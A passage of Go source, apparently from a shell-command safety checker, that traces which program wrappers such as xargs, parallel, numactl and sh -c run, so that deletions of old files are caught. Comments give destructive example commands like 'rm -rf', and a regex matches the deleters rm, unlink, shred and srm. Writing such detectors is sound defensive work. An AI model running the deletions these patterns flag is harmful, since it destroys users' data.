		iv.shell(args[i], iv.sc) // yarn exec 'rm -rf …': a command line
	} else if pkg := args[i].s; (iv.name == "uvx" || iv.name == "pipx") && strings.ContainsAny(pkg, "@=") && !strings.Contains(pkg, "/") {
		prog, _, _ := strings.Cut(pkg, "@") // uvx ruff@0.5 check, pipx run black==24.1 .: the package's program of that name
		prog, _, _ = strings.Cut(prog, "=")
		iv.exec(append([]arg{{s: prog, ok: true, src: args[i].src}}, args[i+1:]...))
	} else {
		iv.exec(args[i:])
	}
	return true
}

// wrappedProgram judges a tool the catalogue does not know whose first
// operand after its options names a program the catalogue does know
// (eatmydata cp …, nocache rm …, setpriv --reuid=1000 cmd, numactl -N 0
// cmd, faketime '2020-01-01' cmd): a wrapper's shape, so the rest is
// judged as the command it runs. An option's value may stand before the
// program (-N 0; after a one-letter option the next word is always taken
// for its value: shellcheck -s bash), and one operand of the tool's own
// (faketime's time). The
// program is a bare name or a path in a bin directory: rclone copy
// remote:backup/nvim names no program.
func wrappedProgram(iv *inv) {
	if _, ok := commandRunners[iv.name]; ok {
		return // runsGiven reads them
	}
	if projectTools[iv.name] {
		return // go env, cargo test, make install: the tool's own verbs, not programs
	}
	args := iv.rest(1)
	own, group := 0, false
	for i, a := range args {
		switch {
		case !a.ok || i >= 6:
			return
		case a.s == "--" || strings.HasPrefix(a.s, "-"):
			continue
		}
		if prev := args[max(i-1, 0)]; i > 0 && prev.ok && len(prev.s) == 2 && prev.s[0] == '-' && prev.s != "--" {
			continue // a one-letter option's value: numactl -N 0 cmd, shellcheck -s bash
		}
		if _, known := lookup(path.Base(a.s)); known && a.s != "" && isLetter(a.s[0]) && (!strings.ContainsAny(a.s, "/:") || strings.Contains(a.s, "bin/") && !strings.Contains(a.s, ":")) {
			if ownVerb(a.s) {
				return // pio pkg install -e env, wp cache flush: a verb of the tool's own, not the program of that name
			}
			if destroyVerbs[a.s] && (group || slices.ContainsFunc(args[i+1:], remoteOperand)) {
				return // databricks fs rm -r dbfs:/x, nats stream rm ORDERS, bq rm -t ds.t: the tool's own verb on what it manages, not rm on files here
			}
			iv.exec(args[i:])
			return
		}
		if prev := args[max(i-1, 0)]; i > 0 && prev.ok && strings.HasPrefix(prev.s, "--") && !strings.Contains(prev.s, "=") {
			continue // a long option's value: numactl --membind 0 cmd
		}
		if own++; own > 1 {
			return
		}
		group = groupWord(a.s) // databricks fs, nats stream: a command group, whose verb follows
	}
}

// groupWord reports whether a tool's operand is a plain lower-case word,
// as the groups of a CLI's commands are named (fs, stream, kv), not a
// value (faketime's '2020-01-01').
func groupWord(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if (s[i] < 'a' || s[i] > 'z') && (s[i] != '-' || i == 0) {
			return false
		}
	}
	return true
}

// remoteOperand reports whether an operand names something a service
// holds, by a prefix before a colon (dbfs:/mnt/data, acme:analytics,
// prod:backups), written out before a part computed at run time too
// (acme-dev:$DS): no file of this machine, which rm or kill would be given.
func remoteOperand(a arg) bool {
	s := a.s
	if !a.ok {
		s = strings.TrimLeft(a.src, `"'`) // acme-dev:$DS: the prefix is written out, the rest computed
	}
	pre, _, ok := strings.Cut(s, ":")
	return ok && pre != "" && !strings.HasPrefix(s, "-") && !strings.ContainsAny(pre, "/.~$`\"'(){}")
}

// ownVerb reports whether a bare word a tool is given is, much more often
// than a program it runs, a verb of the tool's own that a program is also
// named: pkg, service (pio pkg install -e env is not FreeBSD's pkg
// -e), or a destroying verb that only the catalogue's name patterns take
// for a program (wp cache flush is not a flush-named server tool).
func ownVerb(w string) bool {
	if _, exact := catalogue[w]; !exact {
		return destroyVerbs[w] || nameVerbs[w]
	}
	return w == "pkg" || w == "service"
}

// isLetter reports whether b is an ASCII letter or a slash: a program's
// name starts with one, a directory operand (.) or a test ([) does not.
func isLetter(b byte) bool { return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b == '/' }

// agedItems judges cmd, run by xargs or parallel on the paths find chose
// by age, size or owner (iv.in), as agedDelete does when it deletes them,
// through whatever runs the deleter (xargs -0 command rm, xargs sh -c 'rm
// "$@"' _).
func (iv *inv) agedItems(cmd []arg) {
	if iv.in.kind != srcPaths || !iv.in.aged {
		return
	}
	if verb := deleterOf(cmd); verb != "" {
		iv.agedDelete(verb, arg{s: iv.in.text, ok: true, src: iv.in.text})
	} else if len(cmd) > 1 && cmd[0].ok && path.Base(cmd[0].s) == "mv" { // xargs -0 mv -t /tmp/: moved away, as if deleted
		if d, ok := destination(cmd[1:]); ok && d.ok {
			if p := iv.c.resolve(iv.sc, d).path; p == "/dev/null" || iv.c.inTemp(p) || iv.c.isTempRoot(p) {
				iv.agedDelete("mv into "+d.s, arg{s: iv.in.text, ok: true, src: iv.in.text})
			}
		}
	}
}

// deleterOf names the deleter cmd runs on the items it is given, past
// wrappers (command, exec, nice, env) and a shell's code (sh -c 'rm
// "$@"'), or "" if none.
func deleterOf(cmd []arg) string {
	for len(cmd) > 0 && cmd[0].ok {
		n := path.Base(cmd[0].s)
		switch {
		case deleters[n]:
			return n
		case n == "command" || n == "builtin" || n == "exec" || n == "nice" || n == "nohup" || n == "env" || n == "ionice" || n == "time":
			cmd = cmd[1:]
			for len(cmd) > 0 && cmd[0].ok && (strings.HasPrefix(cmd[0].s, "-") || isAssignment(cmd[0].s) || allNumbers(cmd[:1])) {
				cmd = cmd[1:]
			}
		case strings.ContainsAny(cmd[0].s, " \t;"): // parallel 'rm {}'
			if m := deleterCode.FindStringSubmatch(cmd[0].s); m != nil {
				return m[1]
			}
			return ""
		case shells[n] && len(cmd) > 2 && cmd[1].ok && strings.HasPrefix(cmd[1].s, "-") && strings.HasSuffix(cmd[1].s, "c"):
			if m := deleterCode.FindStringSubmatch(cmd[2].s); cmd[2].ok && m != nil {
				return m[1]
			}
			return ""
		default:
			return ""
		}
	}
	return ""
}

// deleterCode is a deleter run as a command in shell code.
var deleterCode = lazyRE(`(?:^|[;&|({]\s*|\bdo\s+|\bthen\s+)(?:command\s+|exec\s+)?(rm|unlink|shred|srm)\s`)
